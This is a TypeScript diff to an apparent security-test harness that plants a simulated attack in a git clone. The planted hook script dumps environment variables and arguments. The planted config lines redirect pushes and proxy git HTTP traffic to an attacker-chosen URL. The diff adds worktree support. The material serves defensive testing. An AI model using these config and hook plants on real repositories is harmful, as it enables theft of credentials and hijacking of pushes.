@@ -23,8 +23,8 @@ export function tokenForms(token: string): string[] {
 }
 
 export interface AttackInput {
-  /** The clone's top level (its `.git` is a directory). */
-  root: string;
+  /** The clone's top level (its `.git` is a directory); null: the planting script finds it from its cwd, a worktree. */
+  root: string | null;
   /** Where planted programs write what they saw. */
   evidence: string;
   /** URL prefix of the real remote, and where the attacker wants requests to go instead. */
@@ -45,7 +45,8 @@ export interface Attack {
 
 export async function plantAttack(input: AttackInput): Promise<Attack> {
   const spy = join(input.scratch, "spy.sh");
-  await writeFile(spy, `#!/bin/sh\nf="${input.evidence}/$(basename "$0")-$$"\nenv > "$f.env"\necho "$@" > "$f.args"\ncat > "$f.stdin" 2>/dev/null\nexit 0\n`);
+  // Never reads stdin: a git started by a process that keeps its stdin open would wait forever.
+  await writeFile(spy, `#!/bin/sh\nf="${input.evidence}/$(basename "$0")-$$"\nenv > "$f.env"\necho "$@" > "$f.args"\nexit 0\n`);
   await chmod(spy, 0o755);
   const hooksDir = join(input.scratch, "planted-hooks");
   const included = join(input.scratch, "included.gitconfig");
@@ -79,6 +80,7 @@ export async function plantAttack(input: AttackInput): Promise<Attack> {
   await writeFile(included, `[url "${input.redirectTo}"]\n\tpushInsteadOf = ${input.redirectFrom}\n[http]\n\tproxy = ${input.redirectTo}\n`);
   const hookBody = `#!/bin/sh\nexec ${spy} "$@"\n`;
   const plant = async (): Promise<void> => {
+    if (!input.root) throw new Error("plant() needs the clone's root");
     const gitDir = join(input.root, ".git");
     const current = await readFile(join(gitDir, "config"), "utf8");
     if (!current.includes(spy)) await writeFile(join(gitDir, "config"), current + config);
@@ -95,7 +97,10 @@ export async function plantAttack(input: AttackInput): Promise<Attack> {
     script,
     [
       `const fs = require("node:fs"), path = require("node:path");`,
-      `const gitDir = ${JSON.stringify(join(input.root, ".git"))};`,
+      input.root
+        ? `const gitDir = ${JSON.stringify(join(input.root, ".git"))};`
+        : // A worktree's .git file names .git/worktrees/<lane>; the shared .git is two folders up.
+          `const gitDir = path.resolve(fs.readFileSync(".git", "utf8").replace(/^gitdir: /, "").trim(), "..", "..");`,
       `const cfg = path.join(gitDir, "config");`,
       `const current = fs.readFileSync(cfg, "utf8");`,
       `if (!current.includes(${JSON.stringify(spy)})) fs.writeFileSync(cfg, current + ${JSON.stringify(config)});`,
